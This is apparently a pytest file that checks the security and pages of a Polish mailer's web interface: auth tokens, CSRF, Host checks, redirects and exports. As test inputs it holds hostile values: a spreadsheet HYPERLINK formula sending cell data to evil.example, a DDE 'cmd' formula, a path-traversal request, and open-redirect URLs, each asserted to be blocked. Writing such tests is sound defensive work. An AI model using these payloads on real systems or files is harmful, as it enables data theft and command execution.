"""`mailer web` over HTTP: every page, the exports, the actions, and the auth rules."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from http.cookiejar import CookieJar
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from starlette.testclient import TestClient

from mailer.clock import Clock
from mailer.errors import UsageError
from mailer.models import INBOUND
from mailer.reading.decide import answer_allowed
from mailer.reading.understand import understand
from mailer.settings import load_settings
from mailer.staff import review_queue
from mailer.store import open_state
from mailer.web.app import check_bind, create_app, is_local, is_loopback
from tests.conftest import Workspace
from tests.dovecot import Dovecot
from tests.e2e.realrun import ADAM, INCOMPLETE, QUESTION, REQUEST, WEB_NOW, ZOFIA, real_run
from tests.events import EVENTS
from tests.test_inbox import table
from tests.test_staff import files_mentioning

TOKEN = "test-token-1234567890"
BASE = "http://127.0.0.1:8025"
PAGES = ["/", "/cities", "/registrations", f"/person?address={ZOFIA[1]}", "/review",
         "/erase", f"/erase?address={ZOFIA[1]}"]
FILES = ["/registrations.csv", "/registrations.xlsx"]


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory,
           dovecot_server: Dovecot) -> Iterator[Workspace]:
    """One real run for the tests that only read (module-wide: a run takes a few seconds)."""
    with real_run(tmp_path_factory.mktemp("web") / "ws", dovecot_server) as run:
        yield run.ws


@pytest.fixture
def fresh(tmp_path: Path, dovecot_server: Dovecot) -> Iterator[Workspace]:
    """A real run of its own, for a test that changes the state."""
    with real_run(tmp_path / "ws", dovecot_server) as run:
        yield run.ws


def client_for(ws: Workspace, *, public: bool = False) -> TestClient:
    settings = load_settings(ws.config)
    app = create_app(settings, clock=Clock(datetime.fromisoformat(WEB_NOW)), token=TOKEN,
                     port=8025, public=public)
    return TestClient(app, base_url=BASE, follow_redirects=False)


def signed_in(ws: Workspace) -> TestClient:
    client = client_for(ws)
    assert client.get(f"/?token={TOKEN}").status_code == 303
    return client


def csrf_of(html: str) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', html)
    assert found, "no CSRF field on the page"
    return found.group(1)


def waiting(ws: Workspace) -> list[dict[str, Any]]:
    with open_state(ws.state, writer=False) as store:
        return review_queue(store)


def key_of(ws: Workspace, sender: str) -> str:
    return next(d["key"] for d in waiting(ws) if d["sender"] == sender)


def audit(ws: Workspace) -> list[dict[str, Any]]:
    return [json.loads(line) for line in (ws.state / "audit.log").read_text().splitlines()]


# --- auth ---------------------------------------------------------------------------------------

def test_without_a_session_every_page_and_export_is_refused(shared: Workspace) -> None:
    """No cookie: 401 and the login page (or plain text for files), never a name or address."""
    client = client_for(shared)
    key = key_of(shared, QUESTION)
    for path in [*PAGES, *FILES, f"/review/{key}", f"/message/{key}.eml"]:
        response = client.get(path)
        assert response.status_code == 401, path
        for secret in (ZOFIA[0], ZOFIA[1], ADAM[0], QUESTION, "Kraków"):
            assert secret not in response.text, (path, secret)
    assert "Token dostępu" in client.get("/").text
    client.cookies.set("mailer_session_8025", "made-up")
    assert client.get("/registrations").status_code == 401


def test_wrong_token_is_refused(shared: Workspace) -> None:
    """A wrong token in the URL or the login form gives 401 and no cookie."""
    client = client_for(shared)
    response = client.get("/?token=wrong")
    assert response.status_code == 401 and "Nieprawidłowy token" in response.text
    assert "set-cookie" not in response.headers
    response = client.post("/login", data={"token": "wrong"})
    assert response.status_code == 401 and "set-cookie" not in response.headers
    assert client.get("/").status_code == 401


def test_token_is_traded_for_a_strict_http_only_cookie(shared: Workspace) -> None:
    """The printed URL signs in once: HttpOnly, SameSite=Strict, Path=/; token leaves the URL."""
    client = client_for(shared)
    response = client.get(f"/cities?status=registered&token={TOKEN}")
    assert response.status_code == 303
    assert response.headers["location"] == "/cities?status=registered"
    cookie = response.headers["set-cookie"]
    assert cookie.startswith("mailer_session_8025=")
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie and "Path=/" in cookie
    assert TOKEN not in cookie
    page = client.get("/cities?status=registered")
    assert page.status_code == 200 and "Kraków" in page.text
    assert page.headers["cache-control"] == "no-store"
    assert "default-src 'none'" in page.headers["content-security-policy"]
    login = client_for(shared).post("/login", data={"token": TOKEN})
    assert login.status_code == 303 and "HttpOnly" in login.headers["set-cookie"]


def test_csrf_and_foreign_origins_are_rejected(shared: Workspace) -> None:
    """POST without the session's CSRF token, with a wrong one, or from another origin: 403."""
    client = signed_in(shared)
    key = key_of(shared, QUESTION)
    csrf = csrf_of(client.get(f"/review/{key}").text)
    url = f"/review/{key}/handled"
    assert client.post(url, data={"note": "x"}).status_code == 403
    assert client.post(url, data={"csrf": "forged", "note": "x"}).status_code == 403
    foreign = client.post(url, data={"csrf": csrf}, headers={"origin": "http://evil.example"})
    assert foreign.status_code == 403
    null = client.post(url, data={"csrf": csrf}, headers={"origin": "null"})
    assert null.status_code == 403
    other = signed_in(shared)  # another browser's session: its own token
    assert other.post(url, data={"csrf": csrf}).status_code == 403
    assert client.post("/logout", data={}).status_code == 403
    assert key in [d["key"] for d in waiting(shared)]  # nothing was changed


def test_other_host_names_are_refused_unless_public(shared: Workspace) -> None:
    """DNS rebinding: a Host other than loopback gets 400 (with --public, any: the proxy's)."""
    client = signed_in(shared)
    assert client.get("/", headers={"host": "evil.example:8025"}).status_code == 400
    assert client.get("/", headers={"host": "localhost:8025"}).status_code == 200
    public = client_for(shared, public=True)
    assert public.get("/", headers={"host": "mailer.example.gov.pl"}).status_code == 401


def test_logout_ends_the_session(shared: Workspace) -> None:
    """After Wyloguj the cookie no longer opens anything."""
    client = signed_in(shared)
    csrf = csrf_of(client.get("/").text)
    assert client.post("/logout", data={"csrf": csrf}).status_code == 200
    assert client.get("/").status_code == 401


def test_the_token_signs_in_once(shared: Workspace) -> None:
    """Traded for a session, the token opens nothing more: another browser gets a Polish page
    saying to use the open session or restart `mailer web`; the signed-in one just lands."""
    first = signed_in(shared)
    second = TestClient(first.app, base_url=BASE, follow_redirects=False)
    again = second.get(f"/registrations?token={TOKEN}")
    assert again.status_code == 401 and "set-cookie" not in again.headers
    assert "już użyty" in again.text and "mailer web" in again.text
    assert ZOFIA[0] not in again.text
    pasted = second.post("/login", data={"token": TOKEN})
    assert pasted.status_code == 401 and "set-cookie" not in pasted.headers
    assert "już użyty" in pasted.text
    assert second.get("/registrations").status_code == 401
    reopened = first.get(f"/cities?token={TOKEN}")
    assert reopened.status_code == 303 and reopened.headers["location"] == "/cities"
    assert "set-cookie" not in reopened.headers
    assert first.get("/registrations").status_code == 200
    by_form = client_for(shared)  # the pasted token is spent the same way
    assert by_form.post("/login", data={"token": TOKEN}).status_code == 303
    late = TestClient(by_form.app, base_url=BASE, follow_redirects=False)
    assert late.get(f"/?token={TOKEN}").status_code == 401


def test_sign_in_redirects_stay_on_this_server(shared: Workspace) -> None:
    """`//evil.example/?token=…` and its variants land on our own "/", never on another site."""
    for path in ("//evil.example/", "///evil.example/x", "/%2F/evil.example/",
                 "/%09/evil.example/"):
        response = client_for(shared).get(f"{BASE}{path}?token={TOKEN}&q=1")
        assert response.status_code == 303, path
        assert response.headers["location"] == "/?q=1", path
    escaped = client_for(shared).get(f"{BASE}/%5Cevil.example/?token={TOKEN}")
    location = escaped.headers["location"]  # a path of ours, the backslash kept encoded
    assert location.startswith("/") and not location.startswith(("//", "/\\")), location
    assert is_local("/") and is_local("/person?address=a%40b.pl&done=registered")
    for target in ("//evil.example", "/\\evil.example", "http://evil.example/", "evil",
                   "/\t/evil.example", ""):
        assert not is_local(target), target


def test_binding_beyond_loopback_needs_public(tmp_path: Path) -> None:
    """--host other than loopback without --public is a usage error (exit 2), naming the fix."""
    assert is_loopback("127.0.0.1") and is_loopback("::1") and is_loopback("localhost")
    assert not is_loopback("0.0.0.0") and not is_loopback("192.0.2.1")
    with pytest.raises(UsageError):
        check_bind("0.0.0.0", public=False)
    check_bind("0.0.0.0", public=True)
    check_bind("127.0.0.1", public=False)
    config = Path(__file__).resolve().parent.parent / "campaign.toml"
    result = subprocess.run([sys.executable, "-m", "mailer", "-c", str(config), "web",
                             "--host", "0.0.0.0"], capture_output=True, text=True, timeout=30,
                            stdin=subprocess.DEVNULL, check=False)
    assert result.returncode == 2 and "--public" in result.stderr


def listening_addresses(port: int) -> set[str]:
    """Local addresses with a socket listening on `port` (from /proc/net/tcp, tcp6)."""
    found = set()
    for listing in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(listing).read_text().splitlines()[1:]:
            local, state = line.split()[1], line.split()[3]
            address, _, hex_port = local.partition(":")
            if state == "0A" and int(hex_port, 16) == port:  # 0A: LISTEN
                found.add(address)
    return found


def test_mailer_web_prints_one_url_and_listens_on_loopback_only(shared: Workspace) -> None:
    """The real command: one URL with a token, a socket on 127.0.0.1 only, SIGTERM stops it."""
    env = {**os.environ, "MAILER_CONFIG": str(shared.config), "MAILER_NOW": WEB_NOW}
    proc = subprocess.Popen([sys.executable, "-m", "mailer", "web", "--port", "0"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env,
                            stdin=subprocess.DEVNULL)
    try:
        assert proc.stdout is not None
        line = proc.stdout.readline()
        found = re.search(r"http://127\.0\.0\.1:(\d+)/\?token=([\w-]{40,})", line)
        assert found, line
        port = int(found.group(1))
        assert listening_addresses(port) == {"0100007F"}  # 127.0.0.1, nothing else
        base = f"http://127.0.0.1:{port}"
        browser = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(CookieJar()))
        with pytest.raises(urllib.error.HTTPError) as refused:
            browser.open(f"{base}/registrations", timeout=10)
        assert refused.value.code == 401
        refused.value.close()
        with browser.open(f"{base}/?token={found.group(2)}", timeout=10) as landing:
            assert landing.url == f"{base}/" and landing.status == 200
        with browser.open(f"{base}/registrations", timeout=10) as page:
            assert ZOFIA[0] in page.read().decode()
    finally:
        proc.terminate()
        _, err = proc.communicate(timeout=20)
    assert proc.returncode == 0, err
    assert found.group(2) not in err  # the token is not logged


# --- pages ---------------------------------------------------------------------------------------

def test_every_page_renders_in_polish(shared: Workspace) -> None:
    """Each page answers 200 with lang="pl", a heading, labelled forms and no external asset."""
    client = signed_in(shared)
    key = key_of(shared, QUESTION)
    for path in [*PAGES, "/person", f"/review/{key}"]:
        response = client.get(path)
        assert response.status_code == 200, path
        html = response.text
        assert '<html lang="pl">' in html and "<h1>" in html, path
        assert not re.search(r'(src|href)="(https?:)?//', html), path  # nothing external
        for field in re.findall(r'<(?:input|select)[^>]*\bid="([^"]+)"', html):
            assert f'for="{field}"' in html, (path, field)


def test_dashboard_counts_and_chart(shared: Workspace) -> None:
    """Per event confirmed/late/incomplete, sending progress, answers, the SVG chart."""
    html = signed_in(shared).get("/").text
    rows = re.findall(r'<tr><th scope="row">(.*?)</th><td>.*?</td>\s*'
                      r'<td class="num">(\d+)</td><td class="num">(\d+)</td>'
                      r'<td class="num">(\d+)</td>', html, re.S)
    assert [r[1:] for r in rows] == [("1", "1", "1"), ("2", "0", "1")]
    assert '<progress max="5" value="5"' in html
    assert "<svg" in html and 'role="img"' in html and "termin 26.10 10:00" in html
    assert html.count('class="deadline"') == 2
    assert "20.10: 1 potwierdzonych, 0 po terminie" in html
    assert "28.10: 0 potwierdzonych, 1 po terminie" in html  # Adam, late for the workshop


def test_dashboard_lists_review_first(shared: Workspace) -> None:
    """What waits for a human is the front page's first section, each item linked (issue 13)."""
    html = signed_in(shared).get("/").text
    queue = waiting(shared)
    assert queue and html.index("Czeka na przejrzenie") < html.index("Wysyłka zaproszeń")
    for doc in queue:
        assert f'href="/review/{doc["key"]}"' in html


def test_cities_sort_and_filter(shared: Workspace) -> None:
    """`status --cities` as a table: sortable by any column, filtered by status and name."""
    client = signed_in(shared)
    cities = re.compile(r'<th scope="row">([^<]+)</th>')
    # Cities with a message waiting for a human come first (issue 13: never silent), then
    # the list's order.
    listed = client.get("/cities").text
    assert cities.findall(listed) == ["Łódź", "Poznań", "Gdańsk", "Kraków", "Wrocław"]
    review = client.get("/cities?status=needs+review").text
    assert cities.findall(review) == ["Łódź", "Poznań"] and "czeka na przejrzenie" in review
    assert "1 do przejrzenia" in review
    by_name = cities.findall(client.get("/cities?sort=city").text)
    assert by_name == ["Gdańsk", "Kraków", "Łódź", "Poznań", "Wrocław"]
    by_name_desc = client.get("/cities?sort=city&dir=desc").text
    assert cities.findall(by_name_desc) == by_name[::-1]
    assert 'aria-sort="descending"' in by_name_desc
    by_status = cities.findall(client.get("/cities?sort=status").text)
    assert by_status[2:4] == ["Kraków", "Wrocław"] and by_status[4] == "Gdańsk"
    registered = client.get("/cities?status=registered").text
    assert cities.findall(registered) == ["Kraków", "Wrocław"]
    assert cities.findall(client.get("/cities?q=lodz").text) == ["Łódź"]
    assert "zarejestrowane" in registered and "po terminie" in registered


def test_registrations_filter_search_and_download(shared: Workspace) -> None:
    """Filter by event and status, search name/city/e-mail; CSV and XLSX of what is shown."""
    client = signed_in(shared)
    names = re.compile(r'<th scope="row"><a href="/person\?address=[^"]+">([^<]+)</a>')
    assert sorted(names.findall(client.get("/registrations").text)) == [
        ADAM[0], "Ewa Lis", ZOFIA[0]]
    assert names.findall(client.get("/registrations?status=incomplete").text) == ["Ewa Lis"]
    assert sorted(names.findall(client.get("/registrations?event=smart-city&status=complete")
                                .text)) == [ADAM[0], ZOFIA[0]]
    assert names.findall(client.get("/registrations?q=krakow").text) == [ZOFIA[0]]
    assert names.findall(client.get("/registrations?q=OSOBA3@").text) == [ADAM[0]]
    csv = client.get("/registrations.csv?status=complete")
    assert csv.headers["content-type"].startswith("text/csv")
    disposition = csv.headers["content-disposition"]
    assert disposition == 'attachment; filename="zgloszenia-2020-10-29.csv"'
    text = csv.content.decode("utf-8-sig")
    assert text.startswith("Id;Imię i nazwisko;") and ZOFIA[0] in text and "Ewa Lis" not in text
    xlsx = client.get("/registrations.xlsx?event=pim")
    assert xlsx.headers["content-type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(xlsx.content))
    assert book.sheetnames == ["Wszystkie", "pim"]
    people = {row[1] for row in book["pim"].iter_rows(min_row=2, values_only=True)}
    assert people == {ZOFIA[0], ADAM[0]}
    exports = [e for e in audit(shared) if e["action"] == "export"]
    assert [(e["format"], e["filters"], e["rows"], e["to"]) for e in exports[-2:]] == [
        ("csv", {"status": "complete"}, 2, "browser"), ("xlsx", {"event": "pim"}, 3, "browser")]
    assert all(e["actor"].endswith("(web)") for e in exports)


def test_person_shows_text_beside_what_was_read(shared: Workspace) -> None:
    """Every message in with the values marked in its text, the result, every answer out."""
    client = signed_in(shared)
    html = client.get(f"/person?address={ZOFIA[1].upper()}").text
    assert f"Osoba: {ZOFIA[1]}" in html
    marked = dict(re.findall(r'<mark title="[^"]+" data-field="(\w+)">([^<]+)</mark>', html))
    assert marked["name"] == ZOFIA[0] and marked["city"] == "Kraków"
    assert marked["event"] == "oba" and marked["phone"] == "58 123 45 67"
    assert "Zgłoszenie: Zofia" not in html and "kompletne" in html
    assert "wypełniony formularz zgłoszenia" in html  # the reason, in Polish
    assert "potwierdzenie" in html and "Treść odpowiedzi" in html
    assert "Dzień dobry" in html  # the answer's text, as the service rendered it
    assert re.search(r'href="/message/[0-9a-f]+\.eml"', html)
    missing = client.get("/person?address=nobody@example.com")
    assert missing.status_code == 404 and "Nic nie zapisano" in missing.text
    incomplete = client.get(f"/person?address={INCOMPLETE}").text
    assert "Adres e-mail „ewa.lis@gdansk” jest niepoprawny" in incomplete
    assert "z listy kontaktów" in incomplete  # the city left out (issue 13)


def test_person_page_shows_the_stored_reading_not_the_raw_message(fresh: Workspace) -> None:
    """The page shows what the watcher read (kept beside the .eml): a raw file replaced by a
    message the reader would choke on changes nothing; with the reading gone, the page says
    so and offers the original."""
    client = signed_in(fresh)
    [zofia] = [d for d in table(fresh, INBOUND) if d["sender"] == ZOFIA[1]]
    raw = fresh.state / zofia["path"]
    assert json.loads(raw.with_suffix(".json").read_text())["drafts"][0]["name"] == ZOFIA[0]
    raw.write_bytes(b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" * 5000)
    html = client.get(f"/person?address={ZOFIA[1]}").text
    marked = dict(re.findall(r'<mark title="[^"]+" data-field="(\w+)">([^<]+)</mark>', html))
    assert marked["name"] == ZOFIA[0] and marked["city"] == "Kraków"
    raw.with_suffix(".json").unlink()
    page = client.get(f"/person?address={ZOFIA[1]}")
    assert page.status_code == 200 and "Treść nie została zapisana" in page.text
    assert '<mark title="' not in page.text.split("Co odczytano")[0]


def test_raw_message_download(shared: Workspace) -> None:
    """The stored .eml comes back byte for byte; an unknown or malformed key is 404."""
    client = signed_in(shared)
    key = key_of(shared, QUESTION)
    raw = client.get(f"/message/{key}.eml")
    assert raw.status_code == 200 and raw.headers["content-type"] == "message/rfc822"
    assert raw.content == (shared.state / "messages" / f"{key}.eml").read_bytes()
    assert client.get(f"/message/{'0' * 32}.eml").status_code == 404
    assert client.get("/message/..%2F..%2Fcampaign.toml.eml").status_code == 404
    downloads = [e for e in audit(shared) if e["action"] == "download"]
    assert [e["message"] for e in downloads] == [key]  # what was refused is not a download


def test_review_queue_lists_what_waits(shared: Workspace) -> None:
    """Both not-understood messages, with a link to each and the reason."""
    html = signed_in(shared).get("/review").text
    assert "Pytanie o nagranie" in html and "Prośba o kontakt" in html
    assert "nie zrozumiano treści" in html and "2 wiadomości czekają" in html
    assert "Do przejrzenia (2)" in html


# --- actions -------------------------------------------------------------------------------------

def test_review_register_and_mark_handled(fresh: Workspace) -> None:
    """Both review actions through the same code as `mailer review`, audited as the web."""
    client = signed_in(fresh)
    question, request = key_of(fresh, QUESTION), key_of(fresh, REQUEST)
    page = client.get(f"/review/{question}").text
    assert f'value="{QUESTION}"' in page  # the e-mail field starts as the sender
    csrf = csrf_of(page)
    incomplete = client.post(f"/review/{question}/register",
                             data={"csrf": csrf, "name": "Ola Kot", "email": QUESTION})
    assert incomplete.status_code == 400 and 'aria-invalid="true"' in incomplete.text
    assert len(waiting(fresh)) == 2  # nothing registered
    done = client.post(f"/review/{question}/register",
                       data={"csrf": csrf, "name": "Ola Kot", "city": "Poznań",
                             "email": QUESTION, "event": ["pim"]})
    assert done.status_code == 303
    assert done.headers["location"] == f"/person?address={QUESTION.replace('@', '%40')}" \
                                       "&done=registered"
    person = client.get(done.headers["location"]).text
    assert "Zarejestrowano osobę" in person and "Ola Kot" in person
    handled = client.post(f"/review/{request}/handled", data={"csrf": csrf, "note": "oddzwonię"})
    assert handled.status_code == 303 and handled.headers["location"] == "/review?done=handled"
    assert "Nic nie czeka" in client.get("/review?done=handled").text
    assert waiting(fresh) == []
    assert client.get(f"/review/{request}").status_code == 404
    entries = [e for e in audit(fresh) if e["action"] == "review"]
    assert [e["how"] for e in entries] == ["registered", "handled"]
    assert all(e["actor"].endswith("(web)") for e in entries)
    assert entries[1]["note"] == "oddzwonię"


def test_downloads_neutralise_formulas(fresh: Workspace) -> None:
    """A registration holding formulas: the CSV download has them as text behind `'`, the XLSX
    as text cells; the phone stays as written (OWASP CSV injection, issue 12)."""
    client = signed_in(fresh)
    question = key_of(fresh, QUESTION)
    csrf = csrf_of(client.get(f"/review/{question}").text)
    hostile = ['=HYPERLINK("http://evil.example/?"&A1;"Kliknij")', "=cmd|' /C calc'!A0",
               "+SUM(1;2)"]
    done = client.post(f"/review/{question}/register", data={
        "csrf": csrf, "name": hostile[0], "position": hostile[1], "city": hostile[2],
        "phone": "+48581234567", "email": QUESTION, "event": ["pim"]})
    assert done.status_code == 303, done.text
    text = client.get("/registrations.csv").content.decode("utf-8-sig")
    [row] = [r for r in csv.reader(io.StringIO(text), delimiter=";") if r[4] == QUESTION]
    assert row[1:4] == [f"'{value}" for value in hostile] and row[5] == "+48581234567"
    book = openpyxl.load_workbook(io.BytesIO(client.get("/registrations.xlsx").content))
    [cells] = [r for r in book["Wszystkie"].iter_rows(min_row=2) if r[4].value == QUESTION]
    assert [c.value for c in cells[1:4]] == hostile
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[1:4])
    assert cells[5].value == "+48581234567"


def test_actions_refused_while_the_service_holds_the_lock(shared: Workspace) -> None:
    """With `mailer run`'s writer lock held: 409 in Polish naming the pid, nothing changed."""
    client = signed_in(shared)
    key = key_of(shared, QUESTION)
    csrf = csrf_of(client.get(f"/review/{key}").text)
    with open_state(shared.state, writer=True):  # what a running `mailer run` holds
        response = client.post(f"/review/{key}/handled", data={"csrf": csrf})
        erase = client.post("/erase", data={"csrf": csrf, "address": ZOFIA[1],
                                            "confirm": "yes"})
        assert client.get("/registrations").status_code == 200  # reading goes on
    assert response.status_code == 409 and erase.status_code == 409
    assert "mailer run" in response.text and f"pid {os.getpid()}" in response.text
    assert "Niczego nie zmieniono" in response.text
    assert len(waiting(shared)) == 2
    assert ZOFIA[0] in client.get("/registrations").text


def test_erase_needs_confirmation_then_leaves_no_trace(fresh: Workspace) -> None:
    """Step 1 the address, step 2 what goes and a checkbox; then `forget`, as the CLI does."""
    client = signed_in(fresh)
    summary = client.get(f"/erase?address={ZOFIA[1]}").text
    assert "Krok 2 z 2" in summary and 'name="confirm"' in summary
    csrf = csrf_of(summary)
    unconfirmed = client.post("/erase", data={"csrf": csrf, "address": ZOFIA[1]})
    assert unconfirmed.status_code == 400 and "Zaznacz potwierdzenie" in unconfirmed.text
    assert files_mentioning(fresh.state, ZOFIA[1], ZOFIA[0])  # still there
    done = client.post("/erase", data={"csrf": csrf, "address": ZOFIA[1], "confirm": "yes"})
    assert done.status_code == 200 and "Dane usunięte" in done.text
    assert files_mentioning(fresh.state, ZOFIA[1], ZOFIA[0]) == []
    assert audit(fresh)[-1]["action"] == "forget"
    assert audit(fresh)[-1]["actor"].endswith("(web)")
    assert ZOFIA[0] not in client.get("/registrations").text
    assert client.get(f"/person?address={ZOFIA[1]}").status_code == 404


def test_reasons_are_shown_in_polish() -> None:
    """Every reason the reader and the answer check write (in English, for the logs) reaches
    the clerk in Polish; a quoted phrase or subject stays as written."""
    reasons = {understand(path.read_bytes(), received=datetime(2020, 10, 20, tzinfo=UTC),
                          events=EVENTS, own_addresses={"rejestracja@example.com"})
               .classification.reason for path in Path("tests/data").rglob("*.eml")}
    start = datetime(2020, 10, 19, tzinfo=UTC)
    refusals = {answer_allowed(**{
        "sender": "jan@gdynia.example.com", "own_addresses": ["rejestracja@example.com"],
        "automated": False, "received": start + timedelta(days=1), "watermark": start,
        "answers_today": 0, "max_per_day": 5, **change}) for change in (
            {"sender": ""}, {"sender": "rejestracja@example.com"},
            {"sender": "jan@gdynia..example.com"},
            {"automated": True}, {"forged": "dmarc=fail at mx.example.com"},
            {"received": start - timedelta(days=1)}, {"answers_today": 5})}
    assert len(reasons) >= 10 and len(refusals) == 7
    english = re.compile(r"\b(?:header|bounce|sender|subject|phrase|form|report|delayed|"
                         r"address|message|daily|received|own|filled|unsubscribe)\b")
    for reason in reasons | refusals:
        assert reason is not None
        shown = reason.polish()
        assert shown != reason.english(), (reason, shown)
        assert not english.search(shown.split('"')[0]), (reason, shown)
